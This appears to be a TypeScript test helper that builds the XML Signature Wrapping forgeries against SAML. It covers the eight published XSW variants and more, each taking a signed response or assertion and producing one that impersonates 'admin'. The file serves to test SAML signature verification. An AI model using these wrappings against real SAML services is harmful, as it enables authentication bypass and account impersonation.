/**
 * The eight published ways to wrap a signed SAML message ("On Breaking SAML: Be Whoever You Want to Be", USENIX Security
 * 2012), written as surgery on text so that they do not depend on the code under test.
 */

const signatureOf = (xml: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)![0];
const afterIssuer = (xml: string, what: string): string =>
  xml.replace(/(<saml:Issuer[^>]*>[^<]*<\/saml:Issuer>)/, `$1${what}`);
const intoSignature = (signature: string, what: string): string =>
  signature.replace('</ds:Signature>', `${what}</ds:Signature>`);

/** The attacker's version of a message: another user, and another ID unless it is meant to collide. */
const forge = (xml: string, sameId: boolean): string => {
  const forged = xml.replace(/user-1/g, 'admin').replace(/>a@example\.com</g, '>admin@example.com<');
  return sameId ? forged : forged.replace(/ ID="_/, ' ID="_evil_');
};

export interface Wrapping {
  readonly name: string;
  readonly wrap: (signed: string, sameId: boolean) => string;
}

const partsOf = (signed: string, sameId: boolean) => {
  const signature = signatureOf(signed);
  const bare = signed.replace(signature, '');
  return { signature, bare, evil: forge(bare, sameId) };
};

/** Of a signed response. */
export const responseWrappings: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed response inside the signature of a forged one',
    wrap: (signed, sameId) => {
      const { signature, bare, evil } = partsOf(signed, sameId);
      return afterIssuer(evil, intoSignature(signature, bare));
    },
  },
  {
    name: 'XSW2: the signed response beside its signature inside a forged one',
    wrap: (signed, sameId) => {
      const { signature, bare, evil } = partsOf(signed, sameId);
      return afterIssuer(evil, bare + signature);
    },
  },
  {
    name: 'the signed response, whole, inside the extensions of a forged one',
    wrap: (signed, sameId) => {
      const { evil } = partsOf(signed, sameId);
      return afterIssuer(evil, `<samlp:Extensions>${signed}</samlp:Extensions>`);
    },
  },
  {
    name: 'the signed response, whole, after the assertion of a forged one',
    wrap: (signed, sameId) => partsOf(signed, sameId).evil.replace(/<\/samlp:Response>$/, `${signed}</samlp:Response>`),
  },
  {
    name: 'the signature of the response on a forged one',
    wrap: (signed, sameId) => {
      const { signature, evil } = partsOf(signed, sameId);
      return afterIssuer(evil, signature);
    },
  },
  {
    name: 'the signed response inside the Object of the signature of a forged one',
    wrap: (signed, sameId) => {
      const { signature, bare, evil } = partsOf(signed, sameId);
      return afterIssuer(evil, intoSignature(signature, `<ds:Object>${bare}</ds:Object>`));
    },
  },
  {
    name: 'the signed response inside the KeyInfo of the signature of a forged one',
    wrap: (signed, sameId) => {
      const { signature, bare, evil } = partsOf(signed, sameId);
      return afterIssuer(evil, intoSignature(signature, `<ds:KeyInfo>${bare}</ds:KeyInfo>`));
    },
  },
];

const inResponse = (wrap: (parts: ReturnType<typeof partsOf> & { signed: string }) => string): Wrapping['wrap'] => {
  return (response, sameId) => {
    const signed = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)![0];
    return response.replace(signed, () => wrap({ ...partsOf(signed, sameId), signed }));
  };
};

const inside = (assertion: string, what: string): string =>
  assertion.replace(/<\/saml:Assertion>$/, `${what}</saml:Assertion>`);

/** Of a response with a signed assertion. */
export const assertionWrappings: readonly Wrapping[] = [
  { name: 'XSW3: a forged assertion before the signed one', wrap: inResponse(({ evil, signed }) => evil + signed) },
  {
    name: 'XSW3 turned: a forged assertion after the signed one',
    wrap: inResponse(({ evil, signed }) => signed + evil),
  },
  {
    name: 'XSW4: the signed assertion inside a forged one',
    wrap: inResponse(({ evil, signed }) => inside(evil, signed)),
  },
  {
    name: 'XSW5: the signature on a forged assertion, the signed one after it',
    wrap: inResponse(({ evil, signature, bare }) => afterIssuer(evil, signature) + bare),
  },
  {
    name: 'XSW6: the signed assertion inside the signature of a forged one',
    wrap: inResponse(({ evil, signature, bare }) => afterIssuer(evil, intoSignature(signature, bare))),
  },
  {
    name: 'XSW7: a forged assertion in the extensions',
    wrap: (response, sameId) => {
      const signed = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)![0];
      const { evil } = partsOf(signed, sameId);
      return afterIssuer(response, `<samlp:Extensions>${evil}</samlp:Extensions>`);
    },
  },
  {
    name: 'XSW8: the signed assertion inside the Object of the signature of a forged one',
    wrap: inResponse(({ evil, signature, bare }) =>
      afterIssuer(evil, intoSignature(signature, `<ds:Object>${bare}</ds:Object>`)),
    ),
  },
  {
    name: 'the signature on a forged assertion',
    wrap: inResponse(({ evil, signature }) => afterIssuer(evil, signature)),
  },
  {
    name: 'the signed assertion inside an attribute of a forged one',
    wrap: inResponse(({ evil, signed }) =>
      evil.replace('<saml:AttributeValue>admin@', `<saml:AttributeValue>${signed}admin@`),
    ),
  },
  {
    name: 'the signed assertion inside the advice of a forged one',
    wrap: inResponse(({ evil, signed }) =>
      evil.replace('</saml:Conditions>', `</saml:Conditions><saml:Advice>${signed}</saml:Advice>`),
    ),
  },
  {
    name: 'the signed assertion inside a foreign element of the advice of a forged one',
    wrap: inResponse(({ evil, signed }) =>
      evil.replace(
        '</saml:Conditions>',
        `</saml:Conditions><saml:Advice><x:x xmlns:x="urn:x">${signed}</x:x></saml:Advice>`,
      ),
    ),
  },
  {
    name: 'the signed assertion inside the confirmation data of a forged one',
    wrap: inResponse(({ evil, signed }) =>
      evil.replace('</saml:SubjectConfirmationData>', `${signed}</saml:SubjectConfirmationData>`),
    ),
  },
  {
    name: 'a forged assertion beside, in a foreign element around it',
    wrap: inResponse(({ evil, signed }) => `<x:x xmlns:x="urn:x">${evil}</x:x>${signed}`),
  },
  {
    name: 'the signed assertion in the status detail, a forged one in its place',
    wrap: (response, sameId) => {
      const signed = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)![0];
      const { evil } = partsOf(signed, sameId);
      return response
        .replace(signed, () => evil)
        .replace('</samlp:Status>', () => `<samlp:StatusDetail>${signed}</samlp:StatusDetail></samlp:Status>`);
    },
  },
];
